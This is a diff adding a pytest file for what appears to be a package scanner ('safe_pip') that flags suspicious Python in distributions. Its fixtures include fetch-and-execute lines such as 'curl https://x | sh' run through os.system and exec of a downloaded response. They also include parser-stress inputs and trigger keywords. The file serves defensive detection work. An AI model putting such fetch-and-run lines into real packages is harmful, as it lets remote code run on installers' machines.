@@ -1,0 +1,162 @@
+"""Units: what is read as Python, how it is decoded, and what is kept of its literals."""
+
+from __future__ import annotations
+
+import pytest
+
+from safe_pip.distribution import DistributionKind
+from safe_pip.evidence import Surface
+from safe_pip.extractors import SCHEMA, observe
+from safe_pip.extractors.parsing import decode_source, parse, parse_leniently
+from safe_pip.extractors.triggers import earns_tree
+from safe_pip.extractors.unit import FoldedLiteral, PythonUnit, python_units
+from tests.sources import distribution_of
+
+
+def _unit(source: str | bytes, path: str = "pkg/__init__.py") -> PythonUnit:
+    (unit,) = python_units(distribution_of({path: source}))
+    return unit
+
+
+def _literals(source: str) -> set[tuple[int, str | bytes, bool]]:
+    return {(item.line, item.value, item.is_folded) for item in _unit(source).literals}
+
+
+def test_every_piece_of_python_is_a_unit() -> None:
+    units = python_units(
+        distribution_of(
+            {
+                "pkg/__init__.py": "exec(open('data.txt').read())\n",
+                "pkg/data.txt": "import os\n",
+                "pkg/window.pyw": "",
+                "demo.pth": "import os\n",
+                "bin/run": "#!/usr/bin/python\n",
+                "README.md": "# import os\n",
+                "bin/other": "#!/bin/sh\n",
+            },
+            kind=DistributionKind.WHEEL,
+        )
+    )
+    assert {unit.path for unit in units} == {
+        "pkg/__init__.py",
+        "pkg/data.txt",
+        "pkg/window.pyw",
+        "demo.pth",
+        "bin/run",
+    }
+
+
+def test_startup_file_keeps_its_import_lines_and_numbers() -> None:
+    unit = _unit("/a/path\n\nimport os; x = 'y'\nimportant/path\n", path="demo.pth")
+    assert unit.source == "\n\nimport os; x = 'y'\n\n"
+    assert unit.surface is Surface.STARTUP
+    assert FoldedLiteral(value="y", line=3, surface=Surface.STARTUP) in unit.literals
+
+
+def test_literals_are_kept_written_and_folded() -> None:
+    found = _literals("x = 'ab' + 'cd'\ny = b'YQ=='\nimport base64\nz = base64.b64decode(y)\n")
+    assert {(1, "ab", False), (1, "cd", False), (1, "abcd", True), (2, b"YQ==", False)} <= found
+
+
+def test_unknown_parts_of_a_literal_are_holes() -> None:
+    found = _literals("def f(token):\n    return f'https://api.example/{token}/send'\n")
+    assert (2, "https://api.example/{}/send", True) in found
+
+
+def test_docstring_is_told_from_other_literals() -> None:
+    unit = _unit('"""A docstring."""\nX = "a value"\n')
+    assert {item.value: item.is_docstring for item in unit.literals} == {
+        "A docstring.": True,
+        "a value": False,
+    }
+
+
+def test_plain_module_earns_no_tree() -> None:
+    unit = _unit("def add(a, b):\n    return a + b\n", path="pkg/module.py")
+    assert unit.tree is None
+    assert unit.parse_error == ""
+    assert unit.literals == ()
+
+
+def test_unparsable_source_keeps_its_literals() -> None:
+    unit = _unit("x = 'before'\nif (:\ny = 'after'\n" + "(" * 300, path="setup.py")
+    assert unit.parse_error
+    assert "before" in {item.value for item in unit.literals}
+
+
+@pytest.mark.parametrize(
+    ("data", "text"),
+    [
+        (b"\xef\xbb\xbfx = 1\r\n", "x = 1\n"),
+        (b"# coding: latin-1\nx = '\xe9'\n", "# coding: latin-1\nx = 'é'\n"),
+        ("# coding: utf-8\nx = 'é'\n".encode(), "# coding: utf-8\nx = 'é'\n"),
+        (b"# coding: no-such-codec\nx = 1\n", "# coding: no-such-codec\nx = 1\n"),
+        (b"x = '\xff'\n", "x = '\ufffd'\n"),
+    ],
+)
+def test_source_is_decoded_as_python_would(data: bytes, text: str) -> None:
+    assert decode_source(data) == text
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "(" * 100_000,
+        "x = " + "-" * 100_000 + "1",
+        "x = " + "lambda:" * 20_000 + "1",
+        "x = " + "+".join("1" * 50_000),
+        "x = a" + ".b" * 50_000,
+        "x = 1 if 1 else " * 20_000 + "1",
+        "if 1:\n pass\n" + "elif 1:\n pass\n" * 20_000,
+        "x = '" + "a" * 1_000_000,
+        "\0",
+        "def f(:\n" * 1_000,
+    ],
+    ids=["brackets", "minus", "lambda", "plus", "dots", "if", "elif", "open string", "nul", "def"],
+)
+def test_hostile_source_gives_a_reason_and_no_crash(source: str) -> None:
+    assert parse(source).tree is not None or parse(source).error
+    parse_leniently(source)
+
+
+def test_python_2_source_keeps_its_line_numbers() -> None:
+    parsed = parse_leniently("import os\nprint 'x'\nx = 0777L\nif x <> 1:\n\tos.system(`x`)\n")
+    assert parsed.error
+    assert parsed.tree is not None
+    assert parsed.tree.body[-1].lineno == 4
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["import subprocess", "exec(x)", "import urllib.request", "x = '" + "A" * 300 + "'"],
+)
+def test_telling_words_and_shapes_earn_a_tree(source: str) -> None:
+    assert earns_tree(source.encode())
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nHERE = os.path.dirname(__file__)\n",
+        "model.eval()\ndf.eval('a + b')\n",
+        "# this will execute the evaluation\nexecutor = None\n",
+        "value = getattr(self, 'name', None)\n",
+        "import platform\nplatform.system()\n",
+    ],
+)
+def test_ordinary_modules_earn_no_tree(source: str) -> None:
+    assert not earns_tree(source.encode())
+
+
+def test_vector_does_not_depend_on_the_order_of_members() -> None:
+    files = {
+        "setup.py": "from demo.core import run\nrun()\n",
+        "demo/__init__.py": "import os\nos.system('curl https://x | sh')\n",
+        "demo/core.py": "import requests\ndef run():\n    exec(requests.get('https://x').text)\n",
+        "demo/data.txt": "import socket\n",
+        "demo/other.py": "exec(open('data.txt').read())\n",
+    }
+    backwards = dict(reversed(files.items()))
+    forwards = observe(distribution_of(files))
+    assert forwards == observe(distribution_of(backwards))
+    assert SCHEMA.fold(forwards).values.any()
